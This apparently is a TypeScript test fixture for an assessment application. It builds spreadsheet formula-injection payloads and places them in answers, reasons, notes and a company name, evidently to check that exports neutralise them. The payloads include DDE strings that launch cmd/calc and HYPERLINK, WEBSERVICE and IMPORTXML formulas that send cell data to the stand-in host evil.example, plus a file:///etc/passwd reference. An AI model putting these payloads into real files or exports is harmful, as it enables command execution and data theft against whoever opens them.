import type { Answers } from '../../assessments/answering/answer.ts';
import type { Situation } from '../../assessments/answering/situation.ts';
import { emptyProfile } from '../../assessments/enterprise/profile.ts';
import type { Pack } from '../../assessments/pack/pack.ts';
import type { Question } from '../../assessments/pack/question.ts';
import { both, figures, texts, tinyPack } from '../fixtures/tiny-pack.ts';

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  '"=',
  '|=',
  '%=',
  ';=',
  ',=',
];

const bodies = [
  '1+1',
  'HYPERLINK("http://evil.example/?"&A1,"点我")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://evil.example")',
];

/** Texts that a careless export would turn into formulas: each way to begin, with each thing to do. */
export const formulaPayloads: readonly string[] = [
  ...starts.flatMap((start) => bodies.map((body) => start + body)),
  'DDE("cmd";"/C calc";"!A0")A0',
  '=10+20+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "='file:///etc/passwd'#$passwd.A1",
  '{=1+1}',
  '-2+3+cmd|" /C calc"!A0',
  '=',
  '==1',
  '=\u200b1+1',
];

const questions = formulaPayloads.flatMap((_, place): Question[] => [
  { ...texts, id: `text-${place}`, kind: 'text', maxLength: 500 },
  { ...texts, id: `reason-${place}`, kind: 'yes-partly-no' },
]);

const answers: Answers = Object.fromEntries(
  formulaPayloads.flatMap((payload, place) => [
    [`q:tiny/text-${place}`, { response: { kind: 'text', value: payload }, note: payload, flagged: false }],
    [
      `q:tiny/reason-${place}`,
      { response: { kind: 'not-applicable', reason: payload }, note: payload, flagged: false },
    ],
  ]),
);

/** Each of them as an answer, as a reason and as a note; the enterprise has such a name as well. */
export const hostileSituation: { readonly packs: readonly Pack[]; readonly situation: Situation } = {
  packs: [
    {
      ...tinyPack,
      title: both('=1+1'),
      sections: [{ id: 'section', title: both('@SUM(1+1)'), minutes: 1, questions }],
    },
  ],
  situation: { profile: { ...emptyProfile, name: '=HYPERLINK("http://evil.example")' }, figures, answers },
};
